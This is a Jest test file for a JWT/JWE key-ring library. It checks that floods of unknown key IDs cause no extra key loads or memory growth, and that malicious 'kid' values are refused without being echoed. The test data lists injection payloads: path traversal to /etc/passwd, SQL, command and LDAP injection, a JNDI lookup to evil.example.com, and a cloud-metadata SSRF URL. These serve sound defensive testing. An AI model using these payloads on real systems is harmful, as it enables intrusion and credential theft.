import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { afterEach, describe, expect, test } from '@jest/globals';
import {
  generateKeySet,
  InvalidTokenError,
  openKeyRing,
  type RotatingKeyRing,
  remoteJwks,
  TemporarilyUnavailableError,
} from 'passport-jwe';
import { internalsOf } from '../../src/keys/key-ring-internals.js';
import { type AttackTarget, refusedAs, startTarget } from '../support/attack-target.js';
import { rejectionOf } from '../support/caught.js';
import { forgeToken } from '../support/forge-token.js';
import { createIssuerAndVerifier } from '../support/issuer-and-verifier.js';
import { generateSigner } from '../support/key-pairs.js';
import { type MemoryKeySource, memoryKeySource } from '../support/memory-key-source.js';
import { AUDIENCE, createRing, ISSUER, NOW } from '../support/tokens.js';

const FLOOD = 100_000;
const MEGABYTE = 1_048_576;

let now = NOW;
let source: MemoryKeySource;
let target: AttackTarget | undefined;

afterEach(async () => {
  now = NOW;
  await target?.close();
  target = undefined;
});

async function openRing(): Promise<RotatingKeyRing> {
  source = memoryKeySource(generateKeySet(NOW));
  return openKeyRing({ source, clock: () => now });
}

/** Well-formed but for a `kid` that nobody has; the rest of it is the same each time. */
function tokenOf(kid: string): string {
  const header = JSON.stringify({ alg: 'dir', enc: 'A256GCM', kid, typ: 'at+jwt' });
  return `${Buffer.from(header).toString('base64url')}..AAAAAAAAAAAAAAAA.${'A'.repeat(400)}.AAAAAAAAAAAAAAAAAAAAAA`;
}

function usedMegabytes(): number {
  setFlagsFromString('--expose-gc');
  runInNewContext('gc')();
  return process.memoryUsage().heapUsed / MEGABYTE;
}

// RFC 8725 §3.10: kid is what the sender says.
describe('a flood of tokens with different unknown key IDs', () => {
  const kidOf = (index: number) => `flood-${index}-${'k'.repeat(60)}`;

  /** All of them; every thousand of them are under way at once, in another tenth of a second. */
  async function flood(verify: (token: string) => Promise<unknown>): Promise<ReadonlySet<unknown>> {
    const outcomes = new Set<unknown>();
    for (let sent = 0; sent < FLOOD; sent += 1000) {
      now = NOW + 60 + sent / 10_000;
      const errors = await Promise.all(
        Array.from({ length: 1000 }, (_, index) => rejectionOf(verify(tokenOf(kidOf(sent + index))))),
      );
      for (const error of errors) outcomes.add(error instanceof InvalidTokenError ? error.reason : error);
    }
    return outcomes;
  }

  test('causes one load in ten seconds, and no memory growth', async () => {
    const keyRing = await openRing();
    const service = createIssuerAndVerifier({
      keyRing,
      issuer: ISSUER,
      audience: AUDIENCE,
      clock: () => now,
    });
    await rejectionOf(service.verify(tokenOf('first')));
    const before = usedMegabytes();
    const outcomes = await flood(service.verify);
    const grown = usedMegabytes() - before;

    expect(outcomes).toEqual(new Set(['unknown_key']));
    expect(source.loads).toBe(2);
    // Their names alone would take 7, the tokens 60.
    expect(grown).toBeLessThan(4);
    await keyRing.close();
  });

  test('causes no more loads while the source is unavailable, and is answered with 503', async () => {
    const keyRing = await openRing();
    const service = createIssuerAndVerifier({
      keyRing,
      issuer: ISSUER,
      audience: AUDIENCE,
      clock: () => now,
    });
    source.failure = new Error('connect ECONNREFUSED');
    const answers = await Promise.all(
      Array.from({ length: 2000 }, (_, index) => {
        now = NOW + 60 + index / 1000;
        return rejectionOf(service.verify(tokenOf(kidOf(index))));
      }),
    );

    expect(answers.every((answer) => answer instanceof TemporarilyUnavailableError)).toBe(true);
    expect(source.loads).toBe(2);
    await keyRing.close();
  });

  test('does not affect a ring without a source', async () => {
    const keyRing = await createRing();
    target = await startTarget({ keyRing });
    for (let index = 0; index < 50; index += 1) {
      expect(await target.present(tokenOf(kidOf(index)))).toMatchObject(refusedAs('unknown_key'));
    }
  });

  test('causes one fetch of the JWK Set of an issuer in thirty seconds', async () => {
    let fetches = 0;
    const answer = JSON.stringify({ keys: [generateSigner().publicJwk] });
    const keys = remoteJwks({
      url: 'https://auth.example.com/jwks',
      clock: () => now,
      fetch: async () => {
        fetches += 1;
        return new Response(answer, { headers: { 'Content-Type': 'application/json' } });
      },
    });
    const found = new Set<unknown>();
    for (let index = 0; index < FLOOD; index += 1) {
      now = NOW + index / 10_000;
      found.add(await keys.find(kidOf(index), 'EdDSA'));
    }

    expect(found).toEqual(new Set([undefined]));
    expect(fetches).toBe(1);
  });
});

// CVE-2018-0114 and many after it: kid as the path of a file, a part of a query or of a command.
describe('a kid with a meaning elsewhere', () => {
  test.each([
    ...[
      '../../../../etc/passwd',
      '/dev/null',
      '..\\..\\windows\\win.ini',
      'file:///etc/passwd',
      '/proc/self/environ',
    ],
    ...["' OR '1'='1", "x' UNION SELECT 'AAAA'--", "'; DROP TABLE keys;--", '{"$ne":null}', '*', '*)(uid=*'],
    ...['key\u0000', '\u0000', 'a\u0000b.pem', 'key\r\nSet-Cookie: a=b', '\u001b[2J', '\u202egnp.exe'],
    ...[
      '$(id)',
      '`id`',
      '; id',
      '| id',
      '${jndi:ldap://evil.example.com/a}',
      '{{7*7}}',
      '%s%s%s%n',
      '<script>',
    ],
    ...[
      'https://evil.example.com/key.jwk',
      'http://169.254.169.254/latest/meta-data',
      'redis://evil',
      'EVAL',
    ],
    ...[
      '',
      ' ',
      '.',
      '..',
      '__proto__',
      'constructor',
      'toString',
      'valueOf',
      'hasOwnProperty',
      'undefined',
      'null',
    ],
    ...['\ud800', 'ｋ', 'K'.repeat(600)],
  ])('finds no key, and is not echoed: %j', async (kid) => {
    const keyRing = await createRing();
    target = await startTarget({ keyRing });
    const answer = await target.present(
      forgeToken(internalsOf(keyRing).encryptionKey('access', AUDIENCE), { header: { kid } }),
    );

    expect(answer).toMatchObject(refusedAs('unknown_key'));
    expect(target.records).toEqual([
      {
        ...{ type: 'token.refused', code: 'ERR_INVALID_TOKEN', reason: 'unknown_key', ip: '127.0.0.1' },
        time: '2030-01-01T00:00:00Z',
      },
    ]);
  });

  test.each([[['k']], [{ toString: 'k' }], [7], [true], [null]])(
    'is rejected if it is not a string: %j',
    async (kid) => {
      const keyRing = await createRing();
      target = await startTarget({ keyRing });
      const token = forgeToken(internalsOf(keyRing).encryptionKey('access', AUDIENCE), { header: { kid } });
      expect(await target.present(token)).toMatchObject(refusedAs('header_invalid_member'));
    },
  );
});
